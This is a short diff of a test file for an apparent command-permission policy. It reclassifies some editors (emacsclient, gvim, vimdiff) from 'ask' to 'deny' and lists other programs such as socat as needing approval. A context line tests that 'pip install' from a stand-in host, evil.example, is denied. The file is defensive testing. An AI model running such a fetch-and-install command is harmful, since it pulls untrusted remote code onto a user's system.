@@ -185,7 +185,8 @@ check('net.fetch evil.example deny', 'pip install https://evil.example/a.whl', '
 /** Programs that open a file in a way of their own: known readers are bound, the others ask. */
 for (const [programs, expected] of [
   ['vim vi nvim ex ed emacs nano micro hx view less more most man', 'deny'],
-  ['foo code cursor subl emacsclient gvim vimdiff editor gedit open', 'ask'],
+  ['emacsclient gvim vimdiff', 'deny'],
+  ['foo code cursor subl editor gedit open', 'ask'],
   ['python3 docker lsof http socat', 'ask'],
 ] as const) {
   for (const program of programs.split(' '))
